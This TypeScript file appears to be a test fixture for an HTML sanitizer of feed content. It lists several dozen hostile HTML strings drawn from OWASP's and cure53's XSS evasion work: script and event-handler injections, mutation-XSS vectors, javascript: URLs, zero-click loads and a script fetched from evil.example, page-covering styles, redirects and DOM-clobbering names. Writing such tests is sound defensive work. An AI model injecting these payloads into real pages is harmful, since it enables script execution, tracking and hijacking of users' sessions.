// What feeds may try in their HTML: to run a script, to ask another host, to cover or restyle the page, to name things
// in it, to lead away from it. Sources: OWASP's XSS filter evasion list, cure53's and Masato Kinugawa's mutation
// vectors, and what is seen in feeds.

export const ATTACK = 'window.attacked=1;alert(1)';
const EVIL = 'https://evil.example';

export const hostileHtml: string[] = [
  // Scripts, handlers, and tags that hold them.
  `<script>${ATTACK}</script><SCRIPT/x>${ATTACK}</SCRIPT><script src="${EVIL}/x.js"></script>`,
  `<scr<script>ipt>${ATTACK}</scr</script>ipt><img """><script>${ATTACK}</script>">`,
  `<img src="x" onerror="${ATTACK}"><img/src=x/onerror=${ATTACK}><image src=x onerror="${ATTACK}">`,
  `<body onload="${ATTACK}"><b onmouseover="${ATTACK}" onfocus=${ATTACK} tabindex=1 autofocus>over</b></body>`,
  `<details open ontoggle="${ATTACK}"><summary onclick="${ATTACK}">more</summary></details><marquee onstart="${ATTACK}">m</marquee>`,
  `<b onanimationstart="${ATTACK}" style="animation:turn 1s">a</b><p contenteditable onblur="${ATTACK}">e</p>`,
  `<dialog open onclose="${ATTACK}">d</dialog><div popover id=pop onbeforetoggle="${ATTACK}">p</div><button popovertarget=pop>b</button>`,
  // Mutations: what is harmless as it is read and is not when it is written and read again.
  `<svg></p><style><a id="</style><img src=x onerror=${ATTACK}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ATTACK}&gt;">`,
  `<math><mtext><table><mglyph><style><math><img src=x onerror="${ATTACK}"></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${ATTACK}></style></mglyph></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${ATTACK}>"></noscript>`,
  `<svg><desc><title><![CDATA[</title><img src=x onerror=${ATTACK}>]]></title></desc></svg>`,
  `<svg><foreignObject><p><style><img src="</style><img src=x onerror=${ATTACK}//"></style></p></foreignObject></svg>`,
  `<a href="x" title="&lt;/title&gt;&lt;img src=x onerror=${ATTACK}&gt;">t</a><!--><img src=x onerror=${ATTACK}>-->`,
  `<xmp><p title="</xmp><img src=x onerror=${ATTACK}>"></xmp><listing>&lt;img src=x onerror=${ATTACK}&gt;</listing>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${ATTACK}>">`,
  // Foreign elements.
  `<svg onload="${ATTACK}"><script>${ATTACK}</script><a xlink:href="javascript:${ATTACK}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='${ATTACK}'/></svg>#x"/></svg>`,
  `<svg><animate onbegin="${ATTACK}" attributeName=x dur=1s><set attributeName="href" to="javascript:${ATTACK}"/></svg>`,
  `<svg><image href="${EVIL}/i.svg"/><filter><feImage href="${EVIL}/f"/></filter></svg><math href="javascript:${ATTACK}">m</math>`,
  // Addresses.
  `<a href="javascript:${ATTACK}">one</a> <a href="java&#10;script:${ATTACK}">two</a>`,
  `<a href=" &#1; javascript:${ATTACK}">three</a> <a href="data:text/html,<script>${ATTACK}</script>">four</a>`,
  `<a href="JaVaScRiPt&colon;${ATTACK}">five</a> <a href="vbscript:x">six</a> <a href="blob:${EVIL}/x">seven</a>`,
  `<a href="javascript&#x3A;${ATTACK}">eight</a> <a href="&#x6A&#x61&#x76&#x61script:${ATTACK}">nine</a> <a href="view-source:x">ten</a>`,
  `<a href="//evil.example/" target="_top" rel="opener" ping="${EVIL}/ping" download>lead</a><area href="javascript:${ATTACK}">`,
  // Requests of other hosts, without a click.
  `<img src="${EVIL}/pixel.gif?who" srcset="${EVIL}/2x.gif 2x" sizes=1px><picture><source srcset="${EVIL}/s.webp"><img src="${EVIL}/p.png"></picture>`,
  `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay></video><audio src="${EVIL}/a.mp3" autoplay onplay="${ATTACK}"></audio>`,
  `<video><source onerror="${ATTACK}" src="x"></video><track src="${EVIL}/t.vtt"><bgsound src="${EVIL}/b.mid">`,
  `<iframe src="${EVIL}/"></iframe><iframe srcdoc="<script>parent.attacked=1</script>"></iframe><frameset><frame src="${EVIL}/"></frameset>`,
  `<object data="${EVIL}/"></object><embed src="${EVIL}/"><applet code="x" codebase="${EVIL}/"></applet><portal src="${EVIL}/"></portal>`,
  `<link rel="stylesheet" href="${EVIL}/l.css"><link rel="prefetch" href="${EVIL}/"><link rel="dns-prefetch" href="${EVIL}/">`,
  `<table background="${EVIL}/t.png"><td background="${EVIL}/t.png">cell</td></table><input type=image src="${EVIL}/i.png">`,
  // Styles, and what covers the page.
  `<style>@import "${EVIL}/i.css";body{background:url(${EVIL}/bg.png)} .pane{display:none} *{color:red!important}</style>`,
  `<p style="position:fixed;inset:0;z-index:999999;background:url(${EVIL}/s.png)" onclick="${ATTACK}">covering</p>`,
  `<div class="unseen skip toast reader pane star" style="width:100000px;height:100000px">classes</div><p hidden>hid</p>`,
  `<img src="${EVIL}/giant.png" width="100000" height="100000"><pre>${'x'.repeat(3_000)}</pre><p>${'Wordwithoutend'.repeat(300)}</p>`,
  `<p>${'Z\u0351\u036b\u0343\u036a\u0302'.repeat(60)}${'\u0300'.repeat(400)}</p><table><tr>${'<td>wide cell</td>'.repeat(80)}</tr></table>`,
  // The direction of text.
  `<p>\u202e\u2066reversed ${'\u202e'.repeat(50)}</p><p dir="rtl">\u05e9\u05dc\u05d5\u05dd <bdo dir=rtl>moc.live</bdo></p><p>\u2067never closed</p>`,
  // Leading away.
  `<meta http-equiv="refresh" content="0;url=${EVIL}/"><base href="${EVIL}/" target="_top"><meta http-equiv="Set-Cookie" content="a=b">`,
  `<form action="${EVIL}/" id=f><input name="q" autofocus onfocus="${ATTACK}"><button formaction="javascript:${ATTACK}">go</button></form><button form=f>b</button>`,
  `<textarea form=f name=t>x</textarea><isindex action="javascript:${ATTACK}"><keygen autofocus onfocus="${ATTACK}">`,
  // Names that the page's own code may ask for.
  `<p id="app" name="main">clobbering</p><a id="list-title" name="entries" href="${EVIL}/">a</a><img name="getElementById"><form name="body"></form>`,
  `<form id="parentNode"><input name="attributes"><input name="innerHTML"><input name=childNodes></form><p id=attacked>n</p>`,
  `<div data-entry="x" data-native aria-hidden="true" role="dialog" aria-label="Your key" slot=s is=x-y>roles</div><x-y onclick="${ATTACK}">custom</x-y>`,
  // Depth and ends.
  `${'<div><b><blockquote>'.repeat(400)}deep`,
  `<template><img src=x onerror="${ATTACK}"></template><template shadowrootmode="open"><style>:host{position:fixed}</style></template>`,
  `<plaintext><img src=x onerror="${ATTACK}">`,
];
